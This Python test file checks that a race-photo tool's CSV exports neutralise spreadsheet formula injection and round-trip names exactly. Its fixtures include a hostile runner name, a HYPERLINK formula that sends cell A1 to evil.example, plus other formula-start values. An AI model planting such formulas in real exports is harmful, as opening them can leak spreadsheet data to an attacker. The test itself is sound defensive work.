"""CSV exports as spreadsheets and our own readers open them (docs/exports.md#csv-files-in-spreadsheets).

A real store with hostile photo and runner names (non-ASCII, formula starts, commas, quotes,
semicolons, line breaks, a CR), exported by `bibtagger export` / `predict --csv` / crops, then
read back with the csv module, pandas and our start-list import.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from bibtagger_gui.cli import main
from bibtagger_gui.core.demo import generate
from bibtagger_gui.core.exporters import bib_rows_csv
from bibtagger_gui.core.sheet_csv import BOM, FORMULA_STARTS, csv_text, guard, unguard
from bibtagger_gui.core.startlist import load_from_store, parse_startlist
from bibtagger_gui.core.store import Store

# Photo names a camera, a photographer or a shared drive may hand over (all valid on Linux).
PHOTO_NAMES = ["Zoë Østergård.jpg", "=HYPERLINK(1).jpg", "-minus, comma.jpg", "@at \"q\".jpg", "cr\rname.jpg", "lf\nname.jpg"]
# A start list is third-party data: runner names an attacker (or a typo) may put in it.
RUNNERS = {
    "0891": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "12": "+1 Müller",
    "13": "-Smith, Ann",
    "14": '@SUM(1) "Bob"',
    "15": "Zoë; Østergård",
    "16": "'t Hooft",  # a Dutch name that starts with an apostrophe: left alone
    "17": "'=already quoted",
    "0042": "Łukasz Żółć",
    "100": "二郎",
}
TRICKY = ["", "plain", "=1+1", "+1", "-1", "@x", "\tx", "\rx", "\0x", "'", "'=x", "''+x", "'t Hooft", "O'Brien", "a=b", " =x"]


def _cells_are_inert(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would evaluate as a formula."""
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_STARTS, (cell, row)


@pytest.mark.parametrize("value", TRICKY)
def test_guard_is_undone_exactly_and_leaves_no_formula(value):
    guarded = guard(value)
    assert unguard(guarded) == value
    assert not guarded or guarded[0] not in FORMULA_STARTS
    assert guarded == value or value[:1] in FORMULA_STARTS or value.startswith("'")


def test_csv_text_is_read_back_exactly_by_csv_and_pandas(tmp_path):
    rows = [["a", "b", "c"], ["cr\rinside", "lf\ninside", "crlf\r\ninside"], ['q"uote', "com,ma", "semi;colon"], ["", " sp ", "Zoë"]]
    text = csv_text(rows)
    assert list(csv.reader(io.StringIO(text, newline=""))) == rows
    (tmp_path / "t.csv").write_text(text, encoding="utf-8", newline="")
    frame = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
    assert [list(frame.columns), *frame.values.tolist()] == rows


@pytest.fixture
def hostile(tmp_path):
    """A project whose photos have hostile names, with bibs of every start-list number, and the start list imported."""
    folder = tmp_path / "race"
    truth = generate(folder, count=len(PHOTO_NAMES), seed=5, size=(240, 320))
    for t, name in zip(truth, PHOTO_NAMES):
        (folder / t.image).rename(folder / name)
    (folder / "ground_truth.json").unlink()
    start = tmp_path / "start.csv"
    # written as a careful tool (or our own export) writes it for Excel: formula starts guarded
    start.write_text(csv_text([["Bib", "Name"], *((n, guard(name)) for n, name in RUNNERS.items())]), encoding="utf-8")
    assert main(["startlist", "import", str(start), str(folder)]) == 0
    with Store.open(folder) as store:
        store.scan()
        assert sorted(p.relpath for p in store.photos()) == sorted(PHOTO_NAMES)
        for i, p in enumerate(store.photos()):
            for number in list(RUNNERS)[i::2]:
                store.add_bib(p.id, number, (10.0, 10.0, 60.0, 50.0))
        listed = load_from_store(store).entries
    assert listed == RUNNERS  # the start list itself keeps them as written
    return folder


def _export(capsys, folder: Path, fmt: str, out: Path | None = None) -> str:
    args = ["export", str(folder), "--format", fmt] + (["--out", str(out)] if out else [])
    assert main(args) == 0, capsys.readouterr().err
    return capsys.readouterr().out


@pytest.mark.parametrize("fmt", ["csv", "bibcsv"])
def test_spreadsheet_exports_have_a_bom_no_formulas_and_read_back_exactly(hostile, tmp_path, capsys, fmt):
    out = tmp_path / f"{fmt}.csv"
    _export(capsys, hostile, fmt, out)
    data = out.read_bytes()
    assert data.startswith(BOM.encode("utf-8"))  # Excel reads the names as UTF-8, not as cp1252
    text = data.decode("utf-8-sig")
    assert "\ufeff" not in text and "Łukasz Żółć" in text and "二郎" in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    _cells_are_inert(rows)
    # stdout (a pipe) gets the same rows without the BOM
    assert _export(capsys, hostile, fmt) == text
    records = [dict(zip(rows[0], (unguard(c) for c in r))) for r in rows[1:]]
    # every bib number stays text as written ("0891", "0042") and names come back exactly
    with Store.open(hostile) as store:
        stored = sorted(b.number for bibs in store.all_bibs().values() for b in bibs)
    if fmt == "csv":
        assert sorted(r["number"] for r in records) == stored
        assert {r["image"] for r in records} == set(PHOTO_NAMES)
    else:
        assert sorted(r["number"] for r in records) == sorted(set(stored))
        assert {img for r in records for img in r["images"].split(";")} == set(PHOTO_NAMES)
    assert all(r["name"] == RUNNERS[r["number"]] for r in records)
    # pandas finds the header despite the BOM, and keeps the leading zeros when told to read text
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert list(frame.columns) == rows[0] and frame.values.tolist() == rows[1:]


@pytest.mark.parametrize("fmt", ["csv", "bibcsv"])
def test_an_exported_csv_imports_back_as_the_same_start_list(hostile, tmp_path, capsys, fmt):
    out = tmp_path / f"{fmt}.csv"
    _export(capsys, hostile, fmt, out)
    assert parse_startlist(out).entries == RUNNERS
    other = tmp_path / "other"
    other.mkdir()
    assert main(["startlist", "import", str(out), str(other)]) == 0, capsys.readouterr().err
    with Store.open(other) as store:
        assert load_from_store(store).entries == RUNNERS


def test_predict_csv_rows_are_inert_and_read_back_exactly():
    entries = [{"image": name, "bibs": [{"number": "0891", "box": [1, 2, 3, 4], "confidence": 0.5}]} for name in PHOTO_NAMES[:-1]]
    failed = {PHOTO_NAMES[-1]: "=not an image"}
    rows = list(csv.reader(io.StringIO(bib_rows_csv(entries, failed), newline="")))
    _cells_are_inert(rows)
    assert [unguard(r[0]) for r in rows[1:]] == PHOTO_NAMES
    assert [r[1] for r in rows[1:-1]] == ["0891"] * (len(PHOTO_NAMES) - 1)
    assert unguard(rows[-1][-1]) == "=not an image"


def test_predict_csv_file_has_a_bom_and_stdout_none(hostile, tmp_path, capsys, placeholder_models_dir):
    out = tmp_path / "pred.csv"
    assert main(["predict", str(hostile), "--models", str(placeholder_models_dir), "--csv", str(out)]) == 0
    capsys.readouterr()
    assert main(["predict", str(hostile), "--models", str(placeholder_models_dir), "--csv", "-"]) == 0
    piped = capsys.readouterr().out
    assert out.read_bytes() == (BOM + piped).encode("utf-8")
    rows = list(csv.DictReader(io.StringIO(piped, newline="")))
    assert {unguard(r["image"]) for r in rows} == set(PHOTO_NAMES)


def test_labels_csv_is_machine_data_read_back_exactly(hostile, tmp_path, capsys):
    out = tmp_path / "crops"
    _export(capsys, hostile, "crops", out)
    data = (out / "labels.csv").read_bytes()
    assert not data.startswith(BOM.encode("utf-8"))  # a training script's csv.DictReader(open(..., encoding="utf-8"))
    with open(out / "labels.csv", newline="", encoding="utf-8") as f:
        labels = list(csv.DictReader(f))
    with Store.open(hostile) as store:
        stored = sorted((p.relpath, b.number) for p in store.photos() for b in store.bibs(p.id))
    assert sorted((r["image"], r["number"]) for r in labels) == stored  # exact: no ' added, zeros kept
    assert all((out / r["file"]).is_file() for r in labels)


def test_excel_saved_copy_of_an_export_imports_back(hostile, tmp_path, capsys):
    """Excel's "CSV UTF-8" in a European locale: BOM, ';' between cells, CRLF, apostrophes kept as shown."""
    out = tmp_path / "bib.csv"
    _export(capsys, hostile, "bibcsv", out)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    resaved = tmp_path / "resaved.csv"
    buf = io.StringIO()
    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(rows)
    resaved.write_bytes(BOM.encode("utf-8") + buf.getvalue().encode("utf-8"))
    assert parse_startlist(resaved).entries == RUNNERS


def test_start_list_reads_guarded_cells_without_the_added_apostrophe(tmp_path):
    path = tmp_path / "guarded.csv"
    path.write_text(csv_text([["Bib", "Name"], *((guard(n), guard(name)) for n, name in RUNNERS.items())]), encoding="utf-8")
    assert parse_startlist(path).entries == RUNNERS
    plain = tmp_path / "plain.csv"  # a list with names like "'t Hooft" and no guard keeps them as written
    plain.write_text("Bib,Name\n16,'t Hooft\n18,O'Brien\n", encoding="utf-8")
    assert parse_startlist(plain).entries == {"16": "'t Hooft", "18": "O'Brien"}
